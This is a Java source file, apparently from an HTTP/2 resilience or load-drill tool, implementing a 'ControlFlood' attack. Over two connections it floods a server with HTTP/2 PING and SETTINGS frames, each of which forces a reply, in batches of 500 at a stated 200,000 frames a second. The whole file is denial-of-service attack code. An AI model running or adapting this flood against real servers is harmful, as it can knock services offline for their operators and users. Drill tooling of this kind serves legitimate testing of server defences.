package dev.dolmen.traffic.drill.attack;

import io.netty.handler.codec.http2.Http2FrameTypes;
import java.io.IOException;

/** Pings and settings, each of which wants an answer, 200,000 a second. */
public final class ControlFlood implements Attack {
  private static final int CONNECTIONS = 2;
  private static final int PAIRS_A_FLUSH = 500;
  private static final int PAUSE_MS = 10;
  private static final int PING_BYTES = 8;

  @Override
  public void start(AttackRun run) {
    run.repeat(CONNECTIONS, () -> flood(run));
  }

  private static void flood(AttackRun run) throws IOException, InterruptedException {
    try (FrameConnection connection = run.frames()) {
      while (run.goesOn()) {
        for (int i = 0; i < PAIRS_A_FLUSH; i++) {
          run.countSent();
          connection.frame(Http2FrameTypes.PING, 0, 0, new byte[PING_BYTES]);
          connection.frame(Http2FrameTypes.SETTINGS, 0, 0, new byte[0]);
        }
        connection.flush();
        Thread.sleep(PAUSE_MS);
      }
    }
  }
}
